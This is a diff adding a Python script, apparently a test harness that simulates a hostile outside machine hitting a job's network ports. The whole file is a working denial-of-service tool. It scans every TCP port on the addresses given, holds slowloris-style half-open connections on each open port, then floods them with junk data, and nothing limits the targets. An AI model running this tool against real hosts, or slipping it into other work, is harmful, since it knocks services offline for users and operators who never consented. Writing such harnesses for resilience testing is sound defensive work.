@@ -1,0 +1,98 @@
+"""What a user of another machine does to a job's ports: ``python outsider.py SECONDS ADDRESS ...``; no imports of ours.
+
+It finds every open port of each address, holds connections to all of them after two bytes, and then floods them. What
+it is about to do is printed, with the ports by address.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import selectors
+import socket
+import sys
+import threading
+import time
+from typing import cast
+
+AT_ONCE = 500
+HELD = 30
+ANSWER_S = 1.0
+PORTS = range(1, 65536)
+
+
+def open_ports(address: str) -> list[int]:
+    """Return the ports on which something listens."""
+    found: list[int] = []
+    left = iter(PORTS)
+    selector = selectors.DefaultSelector()
+    asked: dict[socket.socket, tuple[int, float]] = {}
+
+    def close(asking: socket.socket) -> None:
+        del asked[asking]
+        selector.unregister(asking)
+        asking.close()
+
+    while True:
+        while len(asked) < AT_ONCE and (port := next(left, None)) is not None:
+            asking = socket.socket()
+            asking.settimeout(0.0)
+            asking.connect_ex((address, port))
+            asked[asking] = port, time.monotonic() + ANSWER_S
+            selector.register(asking, selectors.EVENT_WRITE)
+        if not asked:
+            return sorted(found)
+        for key, _ in selector.select(ANSWER_S):
+            asking = cast("socket.socket", key.fileobj)
+            if asking.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                found.append(asked[asking][0])
+            close(asking)
+        for asking in [each for each, (_, until_s) in asked.items() if until_s < time.monotonic()]:
+            close(asking)
+
+
+def hold(address: str, port: int, until_s: float) -> None:
+    """Hold connections that have sent two bytes, and open those again that are closed."""
+    with contextlib.ExitStack() as stack:
+        while time.monotonic() < until_s:
+            held = [stack.enter_context(begun) for begun in (_begin(address, port) for _ in range(HELD)) if begun]
+            for connection in held:
+                connection.settimeout(max(0.01, min(3.0, until_s - time.monotonic())))
+                with contextlib.suppress(OSError):
+                    while connection.recv(1 << 16):
+                        pass
+            stack.close()
+
+
+def flood(address: str, port: int, until_s: float) -> None:
+    """Open connections, send what means nothing, and close them."""
+    while time.monotonic() < until_s:
+        if (connection := _begin(address, port)) is not None:
+            with connection, contextlib.suppress(OSError):
+                connection.sendall(b"\xff\x00?" * 500)
+
+
+def _begin(address: str, port: int) -> socket.socket | None:
+    try:
+        connection = socket.create_connection((address, port), ANSWER_S)
+        connection.sendall(b"sl")
+    except OSError:
+        return None
+    return connection
+
+
+def main(seconds: float, addresses: list[str]) -> None:
+    ports = {address: open_ports(address) for address in addresses}
+    places = [(address, port) for address, found in ports.items() for port in found]
+    for attack in (hold, flood):
+        print(json.dumps({"attack": attack.__name__, "ports": ports}), flush=True)
+        until_s = time.monotonic() + seconds
+        threads = [threading.Thread(target=attack, args=(*place, until_s)) for place in places]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+
+if __name__ == "__main__":
+    main(float(sys.argv[1]), sys.argv[2:])
